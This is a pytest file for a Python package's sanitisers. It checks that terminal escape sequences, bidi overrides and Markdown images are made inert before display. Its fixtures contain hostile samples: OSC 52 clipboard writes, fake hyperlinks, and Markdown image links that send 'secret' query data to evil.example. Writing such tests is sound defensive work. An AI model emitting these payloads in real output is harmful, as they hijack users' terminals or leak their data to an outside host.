"""Outside text made inert: ``clean`` for terminals and pipes, ``json_text`` for JSON
lines, ``no_images`` for notebooks (issue 9, items 1 and 14)."""

from __future__ import annotations

import io
import json
import re

import pytest
from markdown_it import MarkdownIt
from rich.markdown import Markdown
from rich.text import Text

from ahora.answer import Answer
from ahora.cli.console import SafeConsole
from ahora.events import Token
from ahora.safe_text import clean, is_clean, json_text, no_images

# Every way text can act on a terminal instead of being shown.
HOSTILE = (
    "a\x1b]52;c;ZXZpbA==\x07"  # OSC 52: write the clipboard
    "b\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # OSC 8: a fake link
    "c\x1b[2J\x1b[H"  # CSI: clear the screen, cursor home
    "d\x1b]0;title\x07"  # window title
    "e\rf\bg\x7fh"  # CR, backspace, DEL
    "i\x9b31mj\x9d0;x\x9c"  # C1 CSI, OSC, ST
    "k\u202eevil\u202cl\u2066m\u2069"  # bidi override, isolate
    "n\x00o\x0bp\x0cq"  # NUL, VT, FF
)
CONTROLS = set(range(0x00, 0x09)) | set(range(0x0B, 0x20)) | set(range(0x7F, 0xA0))
BIDI = {0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069}


def inert(text: str) -> bool:
    return not any(ord(c) in CONTROLS or ord(c) in BIDI for c in text)


def test_clean_shows_every_control_visibly_and_keeps_the_text() -> None:
    out = clean(HOSTILE)
    assert inert(out)
    assert out.startswith("a␛]52;c;ZXZpbA==␇b␛]8;;https://evil.example/␛\\click")
    assert "e␍f␈g␡h" in out and "i<U+009B>31mj" in out and "k<U+202E>evil<U+202C>l" in out


def test_clean_keeps_newlines_tabs_and_unicode() -> None:
    text = "line one\n\tline two ✓ — ñandú 日本 👍🏽 👨‍👩‍👧"
    assert clean(text) == text and is_clean(text)
    assert clean("a\r\nb") == "a\nb"


def test_json_text_escapes_what_json_leaves_raw_and_keeps_the_data() -> None:
    data = {"title": HOSTILE}
    dumped = json_text(json.dumps(data, ensure_ascii=False))
    assert inert(dumped) and json.loads(dumped) == data


def render(obj: object, *, terminal: bool = True) -> str:
    buf = io.StringIO()
    console = SafeConsole(file=buf, force_terminal=terminal, width=200, color_system="truecolor")
    console.print(obj)
    return buf.getvalue()


SGR = re.compile(r"\x1b\[[0-9;]*m")


@pytest.mark.parametrize("terminal", [True, False])
def test_the_console_cleans_outside_text_and_keeps_its_own_codes(terminal: bool) -> None:
    out = render(Text("title: " + HOSTILE, style="bold"), terminal=terminal)
    assert out.startswith("\x1b[1mtitle: a␛]52;c;")  # rich's bold, then the text, cleaned
    assert inert(SGR.sub("", out)) and "<U+009B>31m" in out
    md = render(Markdown(f"# Head\n\n**bold** {HOSTILE}\n\n[link](https://example.org)"))
    assert "Head" in md and "␛]52" in md and "<U+202E>" in md
    assert "\x1b]8;" in md  # rich's own hyperlink for the model's Markdown link
    assert "\x1b]52" not in md and "\x1b[2J" not in md and "\u202e" not in md and "\r" not in md


def test_the_console_cleans_a_hyperlink_target() -> None:
    text = Text("source")
    text.stylize("link https://a.example/\x1b]52;c;eA==\x07")
    out = render(text)
    assert "\x1b]52" not in out and "\x07" not in out and "a.example/␛]52" in out


def test_a_plain_console_would_have_obeyed() -> None:
    # The test above bites: rich alone passes the hostile codes through.
    from rich.console import Console

    buf = io.StringIO()
    Console(file=buf, force_terminal=True, width=200).print(Text(HOSTILE))
    assert "\x1b]52;c;" in buf.getvalue()


HTML = MarkdownIt("commonmark")

IMAGES = [
    "![logo](https://evil.example/x.png?d=secret)",
    '![logo](https://evil.example/x.png "title")',
    "![logo][r]\n\n[r]: https://evil.example/x.png",
    "![logo][]\n\n[logo]: https://evil.example/x.png",
    "![logo]\n\n[logo]: https://evil.example/x.png",
    "[![logo](https://evil.example/x.png)](https://example.org)",
    "\\\\![logo](https://evil.example/x.png)",
    "*![logo](https://evil.example/x.png)*",
    "> ![logo](https://evil.example/x.png)",
]


@pytest.mark.parametrize("markdown", IMAGES)
def test_no_images_turns_every_image_into_a_link(markdown: str) -> None:
    assert "<img" in HTML.render(markdown)  # the attack works on raw Markdown
    html = HTML.render(no_images(markdown))
    assert "<img" not in html and 'href="https://evil.example/x.png' in html


def test_notebook_views_of_answers_and_tokens_load_no_images() -> None:
    source = {
        "url": "https://a.example/)![x](https://evil.example/t.png",
        "title": "![t](https://evil.example/u.png)",
    }
    answer = Answer(text="See ![chart](https://evil.example/c.png?q=secret)", sources=[source])  # type: ignore[list-item]
    assert "<img" not in HTML.render(answer._repr_markdown_())
    assert "https://evil.example/c.png" in HTML.render(answer._repr_markdown_())
    assert "<img" not in HTML.render(Token("![a](https://evil.example/t.png)")._repr_markdown_())
    assert no_images("plain **text**, a [link](https://x.example) and a ! mark") == (
        "plain **text**, a [link](https://x.example) and a ! mark"
    )
